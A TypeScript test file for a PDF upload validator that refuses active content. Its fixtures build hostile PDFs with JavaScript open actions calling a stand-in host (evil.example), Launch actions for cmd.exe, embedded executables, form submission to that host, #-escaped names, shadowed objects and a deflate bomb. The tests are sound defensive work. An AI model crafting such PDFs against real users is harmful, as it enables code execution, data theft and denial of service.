import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';
import { checkPdf } from './pdf';
import { makePdf } from './test-files';

const active = { status: 400, code: 'upload/pdf_active', message: expect.stringContaining('活动内容'), extra: { field: 'file' } };
const notPdf = { status: 400, code: 'upload/corrupt', message: '不是有效的PDF文件' };

/** A PDF as pdf-lib writes it: every object but the streams in a compressed object stream. */
async function compressed(build: (doc: PDFDocument) => void): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage();
  build(doc);
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

const stream = (dict: string, data: Buffer) => `<< ${dict} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;

describe('checkPdf: what passes', () => {
  it('accepts a plain PDF, one opening at a page, one with a web link, and one in object streams', async () => {
    await expect(checkPdf(makePdf())).resolves.toBeUndefined();
    await expect(checkPdf(makePdf(100_000))).resolves.toBeUndefined();
    await expect(checkPdf(makePdf({ catalog: '/OpenAction [3 0 R /Fit]' }))).resolves.toBeUndefined();
    await expect(checkPdf(makePdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }))).resolves.toBeUndefined();
    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.example.gov.cn/verify) >> >>';
    await expect(checkPdf(makePdf({ objects: [link] }))).resolves.toBeUndefined();
    await expect(checkPdf(await compressed(() => undefined))).resolves.toBeUndefined();
    // A page count held in an object of its own, as some producers write it.
    const indirect = makePdf({ objects: ['1'] }).toString('latin1').replace('/Count 1', '/Count 4 0 R');
    await expect(checkPdf(Buffer.from(indirect, 'latin1'))).resolves.toBeUndefined();
  });
});

describe('checkPdf: active content is refused (issue 17)', () => {
  it('refuses the probe’s file: /OpenAction /JavaScript and /Launch', async () => {
    const probe = makePdf({
      catalog: '/OpenAction 4 0 R',
      objects: ['<< /Type /Action /S /JavaScript /JS (app.launchURL("http://evil.example");) /Next 5 0 R >>', '<< /Type /Action /S /Launch /F (cmd.exe) >>'],
    });
    await expect(checkPdf(probe)).rejects.toMatchObject(active);
    await expect(checkPdf(makePdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }))).rejects.toMatchObject(active);
  });

  it('refuses each kind of active content on its own', async () => {
    const cases = {
      'document JavaScript': { catalog: '/Names << /JavaScript 4 0 R >>', objects: ['<< /Names [(init) << /S /JavaScript /JS (this.print()) >>] >>'] },
      'page open action': { objects: ['<< /Type /Page /Parent 2 0 R /AA << /O << /S /JavaScript /JS 5 0 R >> >> >>', stream('', Buffer.from('app.alert(1)'))] },
      'open action to a web page': { catalog: '/OpenAction << /S /URI /URI (http://evil.example) >>' },
      'embedded file': { catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('/Type /EmbeddedFile', Buffer.from('MZ'))] },
      'file attachment annotation': { objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.exe) >>'] },
      'rich media': { objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>'] },
      'XFA form': { catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [stream('', Buffer.from('<xdp:xdp/>'))] },
      'submit form': { objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (http://evil.example) >> >>'] },
      'import data': { objects: ['<< /S /ImportData /F (data.fdf) >>'] },
      'remote go-to': { objects: ['<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>'] },
    };
    for (const [name, options] of Object.entries(cases)) {
      await expect(checkPdf(makePdf(options)), name).rejects.toMatchObject(active);
    }
  });

  it('refuses active content hidden in a compressed object stream', async () => {
    const hidden = await compressed((doc) => {
      const action = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
      doc.catalog.set(PDFName.of('OpenAction'), action);
    });
    expect(hidden.includes('ObjStm')).toBe(true);
    expect(hidden.includes('JavaScript')).toBe(false); // no byte scan would see it
    await expect(checkPdf(hidden)).rejects.toMatchObject(active);
  });

  it('refuses names spelled with # escapes, in either case of hex digits', async () => {
    await expect(checkPdf(makePdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /J#61vaScript /J#53 (app.alert(1)) >>'] }))).rejects.toMatchObject(active);
    await expect(checkPdf(makePdf({ catalog: '/Names << /#4aavaScript 4 0 R >>', objects: ['<< /Names [] >>'] }))).rejects.toMatchObject(active);
    await expect(checkPdf(makePdf({ objects: ['<< /S /L#61unch /F (calc.exe) >>'] }))).rejects.toMatchObject(active);
  });

  it('refuses an action in an object that a later definition shadows', async () => {
    // The xref table points at the first definition (what a viewer runs); a parser taking the last
    // one would see only the harmless GoTo.
    const shadowed = makePdf({
      catalog: '/OpenAction 4 0 R',
      objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'],
      between: '4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n',
    });
    await expect(checkPdf(shadowed)).rejects.toMatchObject(active);
  });
});

describe('checkPdf: what cannot be parsed is refused', () => {
  it('refuses a file that only starts like a PDF, a cut one, and one without pages', async () => {
    await expect(checkPdf(Buffer.from('%PDF-1.4\nHello, I am a text file.\n'))).rejects.toMatchObject(notPdf);
    await expect(checkPdf(makePdf(5000).subarray(0, 4000))).rejects.toMatchObject(notPdf);
    await expect(checkPdf(Buffer.from('%PDF-1.4\nstartxref\n999999\n%%EOF\n'))).rejects.toMatchObject(notPdf);
    await expect(checkPdf(Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\nstartxref\n9\n%%EOF\n'))).rejects.toMatchObject(notPdf);
    await expect(checkPdf(makePdf({ objects: ['<< /Broken [ 1 2 >>'] }))).rejects.toMatchObject(notPdf);
  });

  it('refuses an object stream that would inflate past its bound, without inflating it all', async () => {
    // A valid object stream (object 9 at offset 0) followed by 64 MB of spaces: pdf-lib alone would
    // inflate all of it into memory and accept the file.
    const inflated = Buffer.concat([Buffer.from('9 0 << /A 1 >>'), Buffer.alloc(64 * 1024 * 1024, 0x20)]);
    const bomb = deflateSync(inflated);
    const file = makePdf({ objects: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)] });
    expect(file.length).toBeLessThan(200_000);
    await expect(checkPdf(file)).rejects.toMatchObject(notPdf);
    const small = deflateSync(inflated.subarray(0, 1000));
    await expect(checkPdf(makePdf({ objects: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', small)] }))).resolves.toBeUndefined();
  });

  it('refuses an encrypted PDF: its object streams cannot be read', async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    doc.encrypt({ userPassword: '', ownerPassword: 'owner', permissions: { printing: 'highResolution' } });
    const file = Buffer.from(await doc.save());
    await expect(checkPdf(file)).rejects.toMatchObject({ code: 'upload/pdf_encrypted', message: 'PDF文件已加密，请上传未加密的PDF文件' });
  });
});
